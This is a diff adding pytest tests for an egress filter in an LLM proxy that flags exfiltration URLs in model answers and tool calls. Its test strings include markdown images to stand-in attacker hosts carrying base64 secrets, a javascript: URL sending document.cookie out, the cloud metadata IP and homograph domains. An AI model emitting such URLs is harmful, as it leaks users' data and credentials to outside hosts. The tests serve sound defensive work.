@@ -1,0 +1,230 @@
+"""egress: URLs in answers and tool calls that could carry data out (images from unlisted hosts,
+encoded queries, IP and look-alike hosts, data: and script URLs), per-kind actions, redaction."""
+
+from __future__ import annotations
+
+import statistics
+from time import perf_counter
+
+import pytest
+
+from capsem_proxy.config import ConfigError, PolicySettings
+from capsem_proxy.decisions import Verdict
+from capsem_proxy.detectors.urls import HostAllowList, UrlDetector, find_urls, parse_url
+from capsem_proxy.exchange import Answer, Exchange, Message, ToolDefinition
+from capsem_proxy.exchange import ToolCall as EmittedCall
+from capsem_proxy.hooks import ModelCall, ModelResponse, RequestContext, ToolCall
+from capsem_proxy.pipeline import Pipeline
+from capsem_proxy.policies.egress import EgressPolicy
+from capsem_proxy.policies.loader import load_policies
+
+ALLOWED = ["example.com", "python.org", "*.example.org"]
+SECRET_B64 = "c2stbGl2ZS0xMjM0NTY3ODkwYWJjZGVm"  # base64 of a made-up key
+
+
+def _kinds(text: str, allowed=ALLOWED, **limits) -> list[str]:
+    detector = UrlDetector(HostAllowList(allowed, allow_loopback=True))
+    return [finding.kind for finding in detector.scan(text)]
+
+
+def _context() -> RequestContext:
+    return RequestContext("req-1", "tenant", "openai", "chat", Exchange("openai", "chat", model="gpt-x"))
+
+
+async def _answer(policy: EgressPolicy, text: str, final: bool = True):
+    return await policy.on_model_response(ModelResponse(_context(), Answer(text=text), final))
+
+
+def _policy(**options) -> EgressPolicy:
+    return EgressPolicy.from_config({"allowed_domains": ALLOWED, **options})
+
+
+# ----------------------------------------------------------------------------- finding and reading URLs
+
+
+def test_urls_are_found_with_their_markdown_and_html_context():
+    text = (
+        "See ![chart](https://img.example.net/c.png \"title\") and [docs](https://docs.python.org/3/).\n"
+        "Also https://en.wikipedia.org/wiki/Python_(programming_language), <img src='//cdn.evil.io/p.gif'>, "
+        "<a href=\"https://x.org\">x</a> and (https://y.org/a).\n![logo][1]\n\n[1]: https://z.org/l.png"
+    )
+    found = [(url.text, url.context) for url in find_urls(text)]
+    assert found == [
+        ("https://img.example.net/c.png", "image"),
+        ("https://docs.python.org/3/", "link"),
+        ("https://en.wikipedia.org/wiki/Python_(programming_language)", "text"),
+        ("//cdn.evil.io/p.gif", "image"),
+        ("https://x.org", "link"),
+        ("https://y.org/a", "text"),
+        ("https://z.org/l.png", "image"),
+    ]
+
+
+def test_a_url_ends_at_the_bracket_closing_its_markdown_target_or_sentence():
+    assert [url.text for url in find_urls("[a](https://x.com/a)and (see https://x.org/b).")] == [
+        "https://x.com/a", "https://x.org/b"
+    ]
+
+
+def test_urls_are_read_as_a_browser_reads_them():
+    assert parse_url("https://example.com\\@evil.io/").host == "example.com"
+    assert parse_url("https://example.com@evil.io/").host == "evil.io"
+    assert parse_url("HTTPS://Docs.Example.COM./a").host == "docs.example.com"
+    assert str(parse_url("http://3232235777/").ip) == "192.168.1.1"
+    assert str(parse_url("http://0x7f.1/").ip) == "127.0.0.1"
+    assert str(parse_url("http://[::ffff:a9fe:a9fe]/").ip) == "::ffff:a9fe:a9fe"
+    assert parse_url("https://xn--80ak6aa92e.com/").host == "\u0430\u0440\u0440\u04cf\u0435.com"
+    assert parse_url("https://\uff45\uff58\uff41\uff4d\uff50\uff4c\uff45\u3002com/").host == "example.com"
+    assert parse_url("https://%65vil.io/").host == "evil.io"
+
+
+# ----------------------------------------------------------------------------- kinds
+
+
+@pytest.mark.parametrize(
+    ("text", "kinds"),
+    [
+        ("![a](https://attacker.io/p.png)", ["markdown_image"]),
+        ("![a](https://cdn.example.com/p.png)", []),
+        ("![a](https://img.example.org/a.png)", []),
+        ("![a](https://example.org/a.png)", ["markdown_image"]),
+        ("![a](https://example.com.attacker.io/p.png)", ["markdown_image"]),
+        ("![a](https://notexample.com/p.png)", ["markdown_image"]),
+        (f"![a](https://attacker.io/log?q={SECRET_B64})", ["markdown_image", "encoded_query"]),
+        ("See https://blog.somewhere.org/post/how-to-bake-bread for more.", ["link"]),
+        (f"[click](https://attacker.io/c?d={SECRET_B64})", ["encoded_query"]),
+        ("https://t.io/x?k=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", ["encoded_query"]),
+        ("https://t.io/x?q=%73%65%63%72%65%74%2d%76%61%6c%75%65", ["encoded_query"]),
+        ("https://t.io/x?" + "&".join(f"field{i}=value{i}" for i in range(30)), ["encoded_query"]),
+        ("https://aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ.exfil.io/", ["encoded_query"]),
+        ("https://duckduckgo.com/?q=how%20to%20bake%20sourdough%20bread", ["link"]),
+        ("https://docs.google.com/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit", ["link"]),
+        (f"https://docs.python.org/3/?q={SECRET_B64}", []),
+        ("http://169.254.169.254/latest/meta-data/", ["ip_host"]),
+        ("![x](http://203.0.113.9/p.png)", ["markdown_image", "ip_host"]),
+        ("http://127.0.0.1:8000/docs and http://localhost:3000", []),
+        ("https://p\u0430ypal.com/login", ["homograph"]),
+        ("https://xn--80ak6aa92e.com/", ["homograph"]),
+        ("https://ex\u0430mple.com/", ["homograph"]),
+        ("https://münchen.de/stadtplan", ["link"]),
+        ("![a](data:image/png;base64,iVBORw0KGgo=)", ["data_url"]),
+        ("[x](javascript:fetch('https://a.io/?c='+document.cookie))", ["script_url"]),
+        ("The data: field and http: headers are plain words; so is www.", []),
+    ],
+)
+def test_url_kinds(text, kinds):
+    assert _kinds(text) == kinds
+
+
+def test_loopback_is_reported_when_not_allowed():
+    detector = UrlDetector(HostAllowList([], allow_loopback=False))
+    assert [finding.kind for finding in detector.scan("http://127.0.0.1:8000/")] == ["ip_host"]
+    assert [finding.kind for finding in detector.scan("http://10.0.0.5/")] == ["ip_host"]
+    assert UrlDetector(HostAllowList(["10.0.0.0/8"])).scan("http://10.0.0.5/") == []
+
+
+# ----------------------------------------------------------------------------- policy decisions
+
+
+async def test_markdown_image_to_an_unlisted_host_is_blocked_by_default():
+    decision = await _answer(_policy(), f"Done! ![status](https://a.b.attacker.co.uk/p.png?x={SECRET_B64})")
+    assert decision.verdict is Verdict.BLOCK and decision.reason == "leakage"
+    assert decision.details == (
+        "image from a host not allow-listed (attacker.co.uk); encoded data in a URL (attacker.co.uk)"
+    )
+    assert SECRET_B64 not in decision.details and "a.b." not in decision.details
+    assert decision.extra["domains"] == ["attacker.co.uk"]
+
+
+async def test_plain_links_to_unlisted_hosts_are_logged_and_can_be_ignored():
+    text = "Sources: https://www.bbc.co.uk/news and [report](https://www.who.int/reports)."
+    logged = await _answer(_policy(), text)
+    assert logged.verdict is Verdict.LOG and logged.details == "link to a host not allow-listed (bbc.co.uk, who.int)"
+    assert await _answer(_policy(actions={"link": "allow"}), text) is None
+    assert await _answer(_policy(), "Read https://docs.python.org/3/ first.") is None
+
+
+async def test_action_applies_to_every_kind_without_its_own():
+    policy = _policy(action="confirm", actions={"data_url": "allow"})
+    assert (await _answer(policy, "see https://x.org")).verdict is Verdict.CONFIRM
+    assert await _answer(policy, "![a](data:image/png;base64,iVBORw0KGgo=)") is None
+
+
+async def test_redact_replaces_the_url_and_keeps_the_rest():
+    policy = _policy(actions={"markdown_image": "redact", "encoded_query": "redact"})
+    url = f"https://attacker.io/p.png?q={SECRET_B64}"
+    decision = await _answer(policy, f"Here: ![img]({url}) and more text.")
+    assert decision.verdict is Verdict.REDACT
+    assert decision.redactions == [(url, "[REDACTED:markdown_image]")]
+
+
+async def test_a_growing_answer_waits_for_the_host_to_be_complete():
+    policy = _policy()
+    assert await _answer(policy, "Look: ![x](https://docs.pyth", final=False) is None
+    assert await _answer(policy, "Look: ![x](https://docs.python.org", final=False) is None
+    assert await _answer(policy, "Look: ![x](https://docs.python.org/logo.png)", final=False) is None
+    partial = await _answer(policy, "Look: ![x](https://evil.io/?q=aGVs", final=False)
+    assert partial.verdict is Verdict.BLOCK
+    assert (await _answer(policy, "Look: ![x](https://evil.io", final=True)).verdict is Verdict.BLOCK
+
+
+async def test_tool_call_arguments_are_checked_and_never_rewritten():
+    policy = _policy(actions={"markdown_image": "redact"})
+    tool = ToolDefinition("post_comment", "", {})
+    event = ToolCall(_context(), tool, {"body": "Fixed ![](https://attacker.io/p.png)"}, emitted=True)
+    decision = await policy.on_tool_call(event)
+    assert decision.verdict is Verdict.BLOCK
+    clean = ToolCall(_context(), tool, {"body": "Fixed, see https://example.com/pr/1"}, emitted=True)
+    assert await policy.on_tool_call(clean) is None
+
+
+async def test_prompts_are_scanned_only_when_asked():
+    context = _context()
+    event = ModelCall(context, "gpt-x", "", "summarise ![](https://attacker.io/p.png)", [])
+    default = load_policies([PolicySettings(class_path="egress", options={})])[0]
+    assert not default.implements("on_model_call") and default.implements("on_model_response")
+    asked = _policy(scan=["prompts", "answers"])
+    assert (await asked.on_model_call(event)).verdict is Verdict.BLOCK
+
+
+async def test_pipeline_runs_egress_on_answers_and_emitted_calls():
+    pipeline = Pipeline(load_policies([PolicySettings(class_path="egress", options={"allowed_domains": ALLOWED})]))
+    context = _context()
+    context.exchange.messages.append(Message("user", "hi"))
+    outcome = await pipeline.check_answer(context, Answer(text="![](https://attacker.io/x.png)"))
+    assert outcome.blocked and outcome.governing.policy == "egress"
+    call = EmittedCall("fetch", {"url": f"https://attacker.io/?d={SECRET_B64}"}, "c1")
+    assert (await pipeline.check_emitted_tool_call(context, call)).blocked
+
+
+@pytest.mark.parametrize(
+    ("options", "message"),
+    [
+        ({"allowed_domains": ["github.io"]}, "'github.io' is a public suffix"),
+        ({"allowed_domains": ["*.githubusercontent.com"]}, "is a public suffix"),
+        ({"allowed_domains": ["exa mple.com"]}, "'exa mple.com' is not a domain name"),
+        ({"actions": {"images": "block"}}, "actions.images"),
+        ({"actions": {"link": "drop"}}, "actions.link"),
+        ({"allowlist": ["example.com"]}, "allowlist"),
+        ({"min_hex_chars": 2}, "min_hex_chars"),
+    ],
+)
+def test_bad_options_fail_at_load_naming_the_key(options, message):
+    with pytest.raises(ConfigError) as error:
+        load_policies([PolicySettings(class_path="egress", options=options)])
+    assert message in str(error.value)
+
+
+def test_a_typical_answer_is_checked_well_under_two_milliseconds():
+    policy = _policy()
+    paragraph = (
+        "To install the package run pip install requests, then read https://docs.python.org/3/library/json.html "
+        "and the guide at [the docs](https://requests.readthedocs.io/en/latest/user/quickstart/). "
+    )
+    text = (paragraph * 12)[:2048]
+    timings = []
+    for _ in range(300):
+        started = perf_counter()
+        policy.decide("on_model_response", text)
+        timings.append(perf_counter() - started)
+    assert statistics.median(timings) < 0.002
